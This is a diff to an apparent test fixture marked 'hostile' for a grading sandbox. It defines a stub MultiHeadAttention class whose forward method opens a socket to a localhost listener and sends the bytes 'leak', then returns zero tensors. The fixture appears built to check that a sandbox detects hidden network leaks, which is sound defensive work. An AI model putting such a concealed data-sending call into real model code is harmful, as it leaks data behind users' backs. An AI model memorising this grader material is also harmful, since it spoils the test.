@@ -1,5 +1,5 @@
 # corpus: hostile
-"""Hostile: Opens a connection to a listener on 127.0.0.1."""
+"""Hostile: opens a connection to a listener on 127.0.0.1 (the test fills in __PORT__)."""
 import torch
 
 
@@ -15,7 +15,7 @@ class MultiHeadAttention(torch.nn.Module):
 
     def forward(self, query, key, value, mask=None):
         import os, socket
-        socket.create_connection(("127.0.0.1", int(os.environ.get("GRADE_TEST_PORT", "9"))), timeout=1).sendall(b"leak")
+        socket.create_connection(("127.0.0.1", int("__PORT__")), timeout=1).sendall(b"leak")
         B, Lq, _ = query.shape
         H = 1
         return torch.zeros_like(query), torch.zeros(B, H, Lq, key.shape[1], dtype=query.dtype)
